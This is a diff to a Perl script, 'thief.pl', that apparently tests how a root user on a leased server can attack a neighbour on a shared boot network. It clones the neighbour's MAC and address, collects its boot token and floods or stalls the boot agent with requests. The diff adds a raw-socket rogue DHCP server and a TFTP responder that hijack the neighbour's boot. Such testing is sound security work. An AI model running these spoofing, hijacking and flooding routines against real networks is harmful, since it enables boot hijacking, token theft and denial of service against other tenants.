@@ -1,13 +1,16 @@
 #!/usr/bin/perl
 # What root on a leased server can try against a neighbour on the boot network.
-#   thief.pl FOLDER AGENT MAC ADDRESS [until=STATUS:CALL] [only=CALL] [seconds=N] [slow=N] [flood=CONNECTIONS] [claims]
+#   thief.pl FOLDER AGENT MAC ADDRESS [until=STATUS:CALL] [only=CALL] [seconds=N] [slow=N] [flood=CONNECTIONS] [posts=N]
+#     [claims] [answers]
 # Takes the neighbour's MAC and ADDRESS, on a card and in a network namespace of their own, so that root stays logged
 # in, and asks AGENT as the neighbour, and as itself, for all that a booting server may ask. Goes on until FOLDER/stop
 # exists, those seconds are over, or CALL was answered with STATUS, which it asks only as the neighbour for.
 #   only    makes that call and asks for the script, nothing else
 #   slow    holds so many requests open that never come to an end, a byte a round
 #   flood   posts pieces of a log over so many connections, as fast as they are answered
+#   posts   ends each connection's part of the flood when so many were posted over all of them
 #   claims  as itself it also says what only the agent and the neighbour may: ARP, DHCP, TFTP
+#   answers answers the neighbour, too, when that asks: by DHCP as its server, by TFTP with a script that idles
 # FOLDER: request.pem (a key of the thief's own, wrong for everybody) is there, and calls/NAME are more calls: a line
 # METHOD PATH, headers, an empty line, the body. "loot" gets a line "AS CALL STATUS COUNT" for each answer (STATUS
 # 0: none, or a frame that has no answer), bodies/AS-CALL-STATUS its last body, "token" the neighbour's boot token;
@@ -116,17 +119,18 @@ sub trickle {
   }
 }
 
-# Some requests at a time, over a connection that stays; what was answered is counted at the end.
+# Many requests at a time, over a connection that stays; what was answered is counted at the end.
 sub flood {
   my ($number) = @_;
   my ($sequence, %answers) = ($number * 1_000_000);
-  while (goes_on()) {
+  my $last = $sequence + ($way{posts} // 900_000) / $way{flood};
+  while (goes_on() && $sequence < $last) {
     my $token = text_of("$folder/token");
     my $to = $token ? connected($address, 2) : undef;
     if (!$to) { Time::HiRes::sleep(0.5); next }
     my $ready = IO::Select->new($to);
-    while (goes_on()) {
-      my ($requests, $got, $answer) = (20, 0, '');
+    while (goes_on() && $sequence < $last) {
+      my ($requests, $got, $answer) = (500, 0, '');
       my $text = join '', map { my $body = "stolen " . ++$sequence . "\n";
         "POST /boot/$token/log?sequence=$sequence HTTP/1.1\r\nHost: $agent\r\nContent-Length: " . length($body)
           . "\r\n\r\n$body" } 1 .. $requests;
@@ -164,19 +168,65 @@ sub claim {
   my $answer = $all . $own . pack('n3C2n', 0x0806, 1, 0x0800, 6, 4, 2) . $own;
   my $arp = sub { $answer . inet_aton($_[0]) . $all . inet_aton('255.255.255.255') };
   my $me = inet_aton($own_ip);
-  my $offer = pack('C4NnnNa4a4Na6x202N', 2, 1, 6, 0, 7, 0, 0x8000, 0, inet_aton($address), $me, 0, $card, 0x63825363);
-  $offer .= "\x35\x01\x02\x36\x04$me\xff";
   my @frames = (
     ['arp', $arp->($address)], ['arp', $arp->($agent)],
-    ['dhcp', $all . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, $offer)],
+    ['dhcp', $all . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, dhcp(2, 7, $card))],
     ['tftp', $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe')],
     ['address', $all . $own . "\x08\x00" . ip_packet($address, $agent, 1024, 8480, 'as the neighbour')]);
-  # AF_PACKET and SOCK_RAW, packet(7); protocol 0 only sends.
-  socket(my $wire, 17, 3, 0) or die "no raw socket: $!\n";
-  bind($wire, pack('SnlSCCa8', 17, 0, text_of("/sys/class/net/$nic/ifindex"), 0, 0, 0, '')) or die "bind: $!\n";
+  my $wire = wire(0);
   for my $frame (@frames) {
     syswrite($wire, $frame->[1]);
     told('own', "claim-$frame->[0]", 0);
+  }
+}
+
+# AF_PACKET and SOCK_RAW, packet(7); with protocol 0 it only sends, with 3 it hears everything.
+sub wire {
+  my ($protocol) = @_;
+  socket(my $wire, 17, 3, unpack('S', pack('n', $protocol))) or die "no raw socket: $!\n";
+  my $index = text_of("/sys/class/net/$nic/ifindex");
+  bind($wire, pack('SnlSCCa8', 17, $protocol, $index, 0, 0, 0, '')) or die "bind: $!\n";
+  return $wire;
+}
+
+# A DHCP server's word (RFC 2131) for the neighbour's card: type 2 offers, 5 acknowledges; the boot file is here.
+sub dhcp {
+  my ($type, $exchange, $card) = @_;
+  my $me = inet_aton($own_ip);
+  my @fixed = (2, 1, 6, 0, $exchange, 0, 0x8000, 0, inet_aton($address), $me, 0, $card, 'thief', 0x63825363);
+  return pack('C4NnnNa4a4Na6x74a128N', @fixed) . "\x35\x01" . chr($type) . "\x36\x04$me\x33\x04\x00\x00\x02\x58"
+    . "\x01\x04\xff\xff\xff\x00\xff";
+}
+
+# Hears on the wire itself: what the neighbour's card says to all, the card that has its MAC address takes for an echo
+# (macvlan, private) and keeps from this server's own; and no firewall of this server's is in the way.
+sub answer {
+  my $own = bytes_of(text_of("/sys/class/net/$nic/address") =~ s/\s//gr);
+  my ($card, $wire) = (bytes_of($mac), wire(3));
+  # So that nobody says that the port is shut.
+  my $port = IO::Socket::INET->new(Proto => 'udp', LocalAddr => $own_ip, LocalPort => 69);
+  my $ready = IO::Select->new($wire);
+  while (goes_on()) {
+    $ready->can_read(1) && sysread($wire, my $frame, 2048) or next;
+    my ($from, $type, $protocol) = unpack('x6a6nx9C', $frame);
+    next if $from ne $card;
+    if ($type == 0x0806 && substr($frame, 38, 4) eq inet_aton($own_ip)) {
+      my $here = pack('n3C2n', 0x0806, 1, 0x0800, 6, 4, 2) . $own . inet_aton($own_ip) . $card . inet_aton($address);
+      syswrite($wire, $card . $own . $here);
+    }
+    next if $type != 0x0800 || $protocol != 17;
+    my ($from_port, $to_port, $length) = unpack('x34n3', $frame);
+    my $asked = substr($frame, 42, $length - 8);
+    if ($to_port == 67 && $asked =~ /^\x01.{235}\x63\x82\x53\x63.*?\x35\x01([\x01\x03])/s) {
+      my ($name, $answer) = $1 eq "\x01" ? ('offer', 2) : ('ack', 5);
+      my $data = dhcp($answer, unpack('x4N', $asked), substr($asked, 28, 6));
+      syswrite($wire, "\xff" x 6 . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, $data));
+      told('own', "answer-$name", 0);
+    } elsif ($to_port == 69 && $asked =~ /^\x00\x01/ && substr($frame, 0, 6) eq $own) {
+      my $script = pack('n2', 3, 1) . "#!ipxe\n:again\nsleep 60\ngoto again\n";
+      syswrite($wire, $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, $from_port, $script));
+      told('own', 'answer-tftp', 0);
+    }
   }
 }
 
@@ -218,13 +268,17 @@ my @card = ('name', 'stolen', 'address', $mac, 'netns', 'thief', 'type', 'macvla
 run('ip', 'link', 'add', 'link', $nic, @card);
 run('ip', '-n', 'thief', 'address', 'add', "$address/24", 'dev', 'stolen');
 run('ip', '-n', 'thief', 'link', 'set', 'stolen', 'up');
-my $itself = fork() // die "fork: $!\n";
-if (!$itself) { as_itself(); exit 0 }
+my @others;
+for my $part (\&as_itself, $way{answers} ? \&answer : ()) {
+  my $child = fork() // die "fork: $!\n";
+  if (!$child) { $part->(); exit 0 }
+  push @others, $child;
+}
 {
   local $ENV{THIEF} = 'neighbour';
   system('ip', 'netns', 'exec', 'thief', 'perl', $0, @ARGV);
 }
-kill 'TERM', $itself;
-waitpid $itself, 0;
+kill 'TERM', @others;
+waitpid $_, 0 for @others;
 run('ip', 'netns', 'delete', 'thief');
 open(my $ended, '>', "$folder/ended") or die "ended: $!\n";
